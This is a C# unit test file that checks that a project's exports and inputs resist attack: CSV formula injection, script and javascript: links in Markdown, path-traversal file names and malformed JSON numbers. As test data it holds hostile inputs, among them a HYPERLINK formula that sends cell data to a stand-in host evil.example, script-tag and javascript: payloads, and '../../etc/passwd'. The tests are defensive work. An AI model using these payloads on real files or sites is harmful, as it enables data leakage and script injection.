using System.Text.Json;
using Attest.Core.Common;
using Attest.Core.Features.Documents;
using Attest.Core.Features.Evidence;

namespace Attest.Core.Tests.Common;

/// <summary>Issue 12, parts 7 and 9: exports that cannot attack their reader; hostile names and numbers handled at the edge.</summary>
public sealed class ExportSafetyTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\rcmd", "\"'\rcmd\"")]
    [InlineData("Credit scoring", "Credit scoring")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("", "")]
    public void CSV_cells_starting_like_a_formula_are_neutralised(string value, string cell) => CsvCells.Field(value).ShouldBe(cell);

    [Fact]
    public void Markdown_record_fields_are_text_never_HTML_or_links()
    {
        var field = "<script>alert(1)</script> <iframe src=x> [click](javascript:alert(1)) `code` a|b & c";

        var md = MarkdownText.Inline(field);

        md.ShouldBe("&lt;script&gt;alert(1)&lt;/script&gt; &lt;iframe src=x&gt; \\[click\\](javascript:alert(1)) \\`code\\` a\\|b &amp; c");
        MarkdownText.Link("Wiki", "javascript:alert(1)").ShouldBe("Wiki (javascript:alert(1))");
        MarkdownText.Link("Wiki", "https://wiki.example/x").ShouldBe("[Wiki](https://wiki.example/x)");
        // Rendered by a Markdown viewer that allows HTML (GitHub, wikis): still no tag, no link.
        var html = Markdig.Markdown.ToHtml(md);
        html.ShouldNotContain("<script");
        html.ShouldNotContain("<iframe");
        html.ShouldNotContain("<a ");
    }

    [Fact]
    public void Narrative_markdown_keeps_its_formatting_but_loses_raw_HTML_unsafe_links_and_images()
    {
        var text = "**Bold** and [docs](https://docs.example)\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1)) ![pixel](https://tracker.example/p.png) <b>bold</b> `<i>code</i>`";

        var safe = NarrativeMarkdown.Neutralize(text);

        safe.ShouldContain("**Bold** and [docs](https://docs.example)");
        safe.ShouldContain("&lt;script&gt;alert(1)&lt;/script&gt;");
        safe.ShouldContain("[x](#)");
        safe.ShouldContain("[pixel](https://tracker.example/p.png)");
        safe.ShouldNotContain("![pixel]");
        safe.ShouldContain("&lt;b&gt;bold&lt;/b&gt;");
        safe.ShouldContain("`<i>code</i>`"); // code spans show the text as it is
    }

    [Theory]
    [InlineData("report.pdf", "report.pdf")]
    [InlineData("dir/", "evidence-0123456789ab.pdf")]
    [InlineData("../../etc/passwd", "passwd")]
    [InlineData("C:\\\\reports\\\\q1.pdf", "q1.pdf")]
    [InlineData("..", "evidence-0123456789ab.pdf")]
    [InlineData("\u0001\u0002", "evidence-0123456789ab.pdf")]
    [InlineData("a\"b;c.pdf", "a_b_c.pdf")]
    [InlineData("  spaced.pdf  ", "spaced.pdf")]
    public void Evidence_file_names_are_sanitised_with_a_fallback(string uploaded, string stored) =>
        EvidenceFileNames.Sanitize(uploaded, "0123456789abcdef", "application/pdf").ShouldBe(stored);

    [Fact]
    public void A_very_long_evidence_file_name_keeps_its_extension()
    {
        var name = EvidenceFileNames.Sanitize(new string('a', 600) + ".csv", "0123456789abcdef", "text/csv");
        name.Length.ShouldBe(EvidenceFileNames.MaxLength);
        name.ShouldEndWith(".csv");
    }

    private sealed record Input(double? Score, System.Text.Json.Nodes.JsonObject? Config, string? Name);

    [Theory]
    [InlineData("{\"score\":1e400}", "score")]
    [InlineData("{\"score\":\"NaN\"}", "score")]
    [InlineData("{\"config\":{\"lr\":-1e400}}", "lr")]
    [InlineData("{\"config\":{\"a\":1,\"a\":2}}", "a")]
    [InlineData("{\"Name\":\"x\"}", "Name")]
    [InlineData("{\"name\":\"x\",\"name\":\"y\"}", "name")]
    public void The_JSON_dialect_refuses_infinite_numbers_duplicates_and_other_cases(string json, string named)
    {
        var error = Should.Throw<JsonException>(() => JsonSerializer.Deserialize<Input>(json, AttestJson.Options));
        (error.Path + " " + (error as JsonInputException)?.Member + " " + error.Message).ShouldContain(named);
    }

    [Fact]
    public void Finite_numbers_and_free_form_configuration_still_bind()
    {
        var input = JsonSerializer.Deserialize<Input>("{\"score\":0.5,\"config\":{\"lr\":1e-7,\"layers\":[1,2]},\"name\":\"ok\"}", AttestJson.Options)!;
        input.Score.ShouldBe(0.5);
        input.Config!["lr"]!.GetValue<double>().ShouldBe(1e-7);
        JsonSerializer.Serialize(double.NaN, AttestJson.Options).ShouldBe("\"NaN\""); // Attest's own results still serialise
    }
}
